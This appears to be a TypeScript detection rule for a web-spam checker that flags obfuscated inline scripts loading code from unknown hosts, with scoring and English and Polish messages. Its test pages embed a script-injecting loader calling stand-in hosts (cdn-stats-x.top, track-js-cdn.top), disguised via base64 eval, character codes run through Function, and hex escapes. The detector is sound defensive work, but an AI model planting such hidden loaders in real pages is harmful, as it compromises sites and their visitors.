import { type CodePiece, codePieces } from '../../facts/code/code-pieces.ts';
import { valuesOf } from '../../facts/code/code-values.ts';
import { explained } from '../../facts/code/guards.ts';
import { foreignTarget } from '../../grounds/foreign-target.ts';
import { adNetworkOf, analyticsOf, consentVendorOf } from '../../lexicon/ad-hosts.ts';
import type { Page } from '../../page/page.ts';
import { siteOf } from '../../page/page-address.ts';
import { BICYCLE, BREAD, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
import type { ScriptAct } from '../../script/structure.ts';
import { NUMBER, SIGN, STRING, TEMPLATE } from '../../script/tokens.ts';
import { examplePage, paragraphs } from '../example.ts';
import { quoteAct, quoteCode } from '../quote-script.ts';
import { abstain, CLEAR, rule } from '../rule.ts';
import { sentences } from '../sentences.ts';
import { findingOf, type Sign } from '../signs.ts';
import { countPl, number } from '../wording.ts';

/** Characters of encoded material that nothing but a hidden program needs. */
const LARGE = 2000;
const SMALL = 160;
/** Shorter strings are keys, hashes and tracking numbers. */
const MIN_LITERAL = 120;
const MIN_CODES = 40;
const MIN_RENAMED = 15;
const MAX_PLAIN = 8000;
/** Characters around the making of a script in which a disguise shows. */
const NEAR_ACT = 150;
/** "script" or "iframe", spelled in escapes. */
const HIDDEN_TAG = /\\x73\\x63\\x72\\x69\\x70\\x74|\\x69\\x66\\x72\\x61\\x6d\\x65/i;

const HIDDEN_LOADER = 0.95;
const HIDDEN_LARGE = 0.85;
const HIDDEN_SMALL = 0.65;
const RENAMED = 0.7;

const DECODES =
  /\batob\b|\bunescape\b|fromCharCode|decodeURIComponent|parseInt\([^()]{1,60},\s*(?:16|36|0x10)\)|charCodeAt/;
const RENAMED_NAMES = /\b_0x[0-9a-f]{3,8}\b/g;
/** The head of the usual packer; what it packs plainly is no secret, what it packs encoded is. */
const PACKER = /function\s*\(p,\s*a,\s*c,\s*k,\s*e/;
const CODE = /createElement|appendChild|<script|<iframe|document\.write|location(?:\.href)?\s*=|eval\(/;
const LOADS = /<\s*(script|iframe)\b[^>]{0,300}?\bsrc\s*=\s*\\?['"]?([^'"\s>\\]{4,300})/i;

const EXAMPLE_LOADER =
  "(function(){var s=document.createElement('script');s.src='https://cdn-stats-x.top/l.js?d='+location.host;document.head.appendChild(s)})()";

const say = sentences({
  loads_file: {
    en: ({ site }: { site: string }) => `A disguised script loads a file from ${site}.`,
    pl: ({ site }) => `Zamaskowany skrypt wczytuje plik z ${site}.`,
  },
  runs_decoded: {
    en: ({ characters }: { characters: number }) =>
      `A script decodes ${number.en(characters)} characters and runs them as code.`,
    pl: ({ characters }) =>
      `Skrypt dekoduje ${countPl(characters, 'znak', 'znaki', 'znaków')} i uruchamia je jako kod.`,
  },
  spelled_in_escapes: {
    en: ({ characters }: { characters: number }) =>
      `A script holds ${number.en(characters)} characters of code that is written in escapes, letter by letter.`,
    pl: ({ characters }) =>
      `Skrypt zawiera ${countPl(characters, 'znak', 'znaki', 'znaków')} kodu zapisanego literą po literze w postaci kodów.`,
  },
  names_disguised: {
    en: ({ names }: { names: number }) =>
      `A script is disguised throughout: ${number.en(names)} of its names are meaningless numbers.`,
    pl: ({ names }) =>
      `Skrypt jest w całości zamaskowany, a nazwy w nim to liczby bez znaczenia (${number.pl(names)}).`,
  },
});

export default rule({
  id: 'sp_obfuscated_loader',
  mode: 'spam',
  policy: 'hacked_content',
  kind: 'violation',
  layer: 'scripts',
  version: 3,
  title: {
    en: 'A disguised script hides what it loads',
    pl: 'Zamaskowany skrypt ukrywa, co wczytuje',
  },
  fix: {
    en: 'Find out where the script comes from, remove it, and close the hole it came in by (outdated plugins, stolen passwords).',
    pl: 'Ustal, skąd wziął się skrypt, usuń go i zamknij lukę, przez którą się dostał (nieaktualne wtyczki, skradzione hasła).',
  },
  question:
    'Is there a heavily disguised inline script that runs hidden code or loads files from an unknown host?',
  sources: ['SP', 'UG'],
  answeredBy: 'code',
  shownBy: 'passages',
  mendedBy: 'clean_up',
  accuses: 'alone',
  languages: 'any',
  basis: 'measured',
  scoring:
    'Hidden code that loads a script or frame from an unknown host: 0.95; code that is decoded and run, and cannot be read, from at least 2,000 encoded characters: 0.85, from 160: 0.65; code spelled in escapes letter by letter: 0.85; a script with renamed names throughout, also where it writes scripts or frames: 0.7. Known advertising, counting and consent services do not count.',
  says: say,
  detect(page) {
    // A robot check is nothing but such a script, and not the page's own.
    if (page.flags.challenge) return abstain('not_applicable');
    const signs = codePieces(page).flatMap((piece) => signsOf(page, piece));
    return findingOf(signs) ?? CLEAR;
  },
  examples: () => ({
    hit: [
      examplePage('a loader in base64', {
        found: { says: ['loads_file'], quotes: ['eval(atob("KGZ1bmN0aW9uKCl7dmFyIHM9ZG9jdW1lbnQuY3J'] },
        title: 'How to bake rye bread',
        body: `${paragraphs(...BREAD)}<script>eval(atob("${btoa(EXAMPLE_LOADER)}"));</script>`,
      }),
      examplePage('a loader as character codes', {
        found: { says: ['runs_decoded'], quotes: ['Function(r)'] },
        title: 'Chleb żytni',
        lang: 'pl',
        body: `${paragraphs(...CHLEB)}<script>var c=[${[...EXAMPLE_LOADER].map((sign) => sign.charCodeAt(0)).join(',')}];var r="";for(var i=0;i<c.length;i++){r+=String.fromCharCode(c[i]);}(new Function(r))();</script>`,
      }),
      examplePage('an address in hex behind a script element', {
        found: {
          says: ['loads_file'],
          quotes: ['e.src="\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x74\\x72\\x6'],
        },
        title: 'Library stays open',
        body: `${paragraphs(...LIBRARY)}<script>var d=document,e=d.createElement("script");e.src="${[...'https://track-js-cdn.top/a.js'].map((sign) => `\\x${sign.charCodeAt(0).toString(16)}`).join('')}";d.head.appendChild(e);</script>`,
      }),
    ],
    clear: [
      examplePage('one library with such names in a bundle that loads in plain words', {
        title: 'Skipping chains',
        body: `${paragraphs(...BICYCLE)}<script>${Array.from({ length: 30 }, (_, i) => `var _0x${(4096 + i).toString(16)}=${i};`).join('')}${'function plainWords(a){return a.map(function(b){return b+1})}'.repeat(8)}var tag=document.createElement("script");tag.async=true;document.head.appendChild(tag);</script>`,
      }),
      examplePage('a known service of audiences that packs its address', {
        title: 'Skipping chains',
        body: `${paragraphs(...BICYCLE)}<script>var a=atob("${btoa('https://tracker.onaudience.com/a.js')}");var s=document.createElement("script");s.src=a;document.head.appendChild(s);</script>`,
      }),
      examplePage('a counter written with escaped brackets', {
        title: 'Skipping chains',
        body: `${paragraphs(...BICYCLE)}<script>
          var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
          document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`,
      }),
      examplePage('an e-mail address hidden from harvesters', {
        title: 'Chleb żytni',
        lang: 'pl',
        body: `${paragraphs(...CHLEB)}<script>document.write(unescape('%3c%61%20%68%72%65%66%3d%22%6d%61%69%6c%74%6f%3a%69%6e%66%6f%40%70%69%65%6b%61%72%6e%69%61%2e%70%6c%22%3e%6e%61%70%69%73%7a%3c%2f%61%3e'));</script>`,
      }),
      examplePage('state of the application in base64', {
        title: 'Library stays open',
        body: `${paragraphs(...LIBRARY)}<script>window.__STATE__ = JSON.parse(atob("${btoa(JSON.stringify({ list: LIBRARY.map((text) => text.replace(/[^ -~]/g, '')) }))}"));</script>`,
      }),
    ],
  }),
});

function signsOf(page: Page, piece: CodePiece): Sign[] {
  if (piece.script.attribute !== '' && !piece.outer) return [];
  const signs: Sign[] = [];
  const hidden = piece.outer !== undefined && piece.tricks > 0;
  for (const load of loadsOf(page, piece)) {
    if (!hidden && load.tricks === 0) continue;
    signs.push({
      score: HIDDEN_LOADER,
      says: say.loads_file({ site: load.site }),
      quote: quoteAct(page, piece, load.act),
    });
  }
  if (piece.outer) return signs;
  const runner = piece.structure.calls.find((act) => isHiddenRun(page, piece, act));
  if (runner) {
    const encoded = encodedChars(piece);
    // A library that also decodes something is long by itself; a loader is little besides what it hides.
    if (encoded >= SMALL && piece.tokens.code.length - encoded < MAX_PLAIN)
      signs.push({
        score: encoded >= LARGE ? HIDDEN_LARGE : HIDDEN_SMALL,
        says: say.runs_decoded({ characters: encoded }),
        quote: quoteAct(page, piece, runner),
      });
  }
  const spelled = escapedCode(page, piece);
  if (spelled)
    signs.push({
      score: HIDDEN_LARGE,
      says: say.spelled_in_escapes({ characters: spelled.end - spelled.start }),
      quote: quoteCode(page, piece, spelled.start, spelled.end),
    });
  const { code } = piece.tokens;
  const renamed = new Set(code.slice(0, 60_000).match(RENAMED_NAMES) ?? []);
  if (renamed.size < MIN_RENAMED) return signs;
  const maker = piece.structure.calls.find((act) => isMaker(page, piece, act) && isAmongRenamed(code, act));
  if (maker || HIDDEN_TAG.test(code))
    signs.push({
      score: RENAMED,
      says: say.names_disguised({ names: renamed.size }),
      quote: maker ? quoteAct(page, piece, maker) : undefined,
    });
  return signs;
}

/**
 * Code that is decoded and run, and could not be read. What could be read is judged by what it does: many scripts are
 * packed by their own site.
 */
function isHiddenRun(page: Page, piece: CodePiece, act: ScriptAct): boolean {
  if (act.name !== 'eval' && act.name !== 'Function') return false;
  if (codePieces(page).some((other) => other.outer?.act === act)) return false;
  const close = piece.shape.partner[act.after] ?? -1;
  if (close <= act.after + 1) return false;
  const argument = explained(page, piece, { first: act.after + 1, last: close - 1 });
  return DECODES.test(argument) || PACKER.test(argument);
}

/** A bundle may hold one library with such names; what it loads in plain words beside them is no secret. */
function isAmongRenamed(code: string, act: ScriptAct): boolean {
  return code.slice(Math.max(0, act.start - NEAR_ACT), act.end + NEAR_ACT).search(RENAMED_NAMES) >= 0;
}

/** Code whose every letter is written as an escape: no tool that makes scripts smaller does that. */
function escapedCode(page: Page, piece: CodePiece): { start: number; end: number } | undefined {
  const { tokens } = piece;
  for (let i = 0; i < tokens.count; i++) {
    if (tokens.kind[i] !== STRING) continue;
    const start = tokens.start[i] ?? 0;
    const end = tokens.end[i] ?? 0;
    if (end - start < MIN_LITERAL || tokens.code.charCodeAt(start + 1) !== 92) continue;
    const value = valuesOf(page, piece, i)[0];
    if (value && value.tricks > 0 && CODE.test(value.text)) return { start, end };
  }
  return undefined;
}

function isMaker(page: Page, piece: CodePiece, act: ScriptAct): boolean {
  if (act.name === 'eval' || act.name === 'Function') return true;
  if (act.name !== 'createElement') return false;
  const tag = act.value ?? valuesOf(page, piece, act.after + 1)[0]?.text ?? '';
  return /^(?:script|iframe)$/i.test(tag);
}

interface Load {
  readonly act: ScriptAct;
  readonly site: string;
  readonly tricks: number;
}

/** Scripts and frames that a piece of code puts into the page from hosts that are not known for anything. */
function loadsOf(page: Page, piece: CodePiece): Load[] {
  const loads: Load[] = [];
  const { structure } = piece;
  const makes = structure.calls.some((act) => act.name === 'createElement' && isMaker(page, piece, act));
  for (const act of [...structure.writes, ...structure.calls]) {
    const write = act.name === 'write' || act.name === 'writeln' || act.name === 'insertAdjacentHTML';
    const isSource = (act.name === 'src' && makes) || write || act.name === 'innerHTML';
    if (!isSource && !(act.name === 'setAttribute' && act.value === 'src')) continue;
    for (const value of valuesOf(page, piece, act.after + 1).slice(0, 2)) {
      // Only what is truly hidden counts: "%3Cscript" around a plain address hides nothing.
      const tricks = isMostlyPlain(piece, act) ? 0 : value.tricks;
      const address = act.name === 'src' ? value.text : (LOADS.exec(value.text)?.[2] ?? '');
      const site = unknownSite(page, address);
      if (site !== undefined) loads.push({ act, site, tricks: tricks + piece.tricks });
    }
  }
  return loads;
}

function isMostlyPlain(piece: CodePiece, act: ScriptAct): boolean {
  const close = piece.shape.partner[act.after] ?? -1;
  const end = close > act.after ? (piece.tokens.end[close] ?? act.end) : act.end + 400;
  const code = piece.tokens.code.slice(act.start, end);
  return (
    /https?:\/\/|\/\/[a-z0-9-]+\.[a-z]/i.test(code) ||
    (/%3C/i.test(code) && /[a-z]{5,}\.[a-z]{2,}/i.test(code))
  );
}

function unknownSite(page: Page, address: string): string | undefined {
  const target = foreignTarget(page, address);
  if (!target) return undefined;
  const site = siteOf(target.host);
  const known =
    adNetworkOf(target.host, site) ?? analyticsOf(target.host, site) ?? consentVendorOf(target.host, site);
  return known === undefined ? site : undefined;
}

/** Base64, hexadecimal, percent signs and lists of character codes. */
function encodedChars(piece: CodePiece): number {
  const { tokens } = piece;
  let sum = 0;
  let codes = 0;
  for (let i = 0; i < tokens.count; i++) {
    const kind = tokens.kind[i];
    if (kind === STRING || kind === TEMPLATE) {
      const length = (tokens.end[i] ?? 0) - (tokens.start[i] ?? 0);
      if (
        length >= MIN_LITERAL &&
        looksEncoded(tokens.code.slice((tokens.start[i] ?? 0) + 1, (tokens.end[i] ?? 0) - 1))
      )
        sum += length;
    }
    if (kind === NUMBER) codes++;
    else if (kind !== SIGN || tokens.value[i] !== 44) {
      if (codes >= MIN_CODES) sum += codes * 4;
      codes = 0;
    }
  }
  return sum;
}

function looksEncoded(text: string): boolean {
  const part = text.slice(0, 4000);
  if (/^[A-Za-z0-9+/=\s]+$/.test(part)) return !part.trim().includes(' ') && /[0-9]/.test(part);
  const escapes = part.match(/%[0-9a-f]{2}|\\x[0-9a-f]{2}|\\u[0-9a-f]{4}/gi)?.length ?? 0;
  return escapes * 3 > part.length / 2;
}
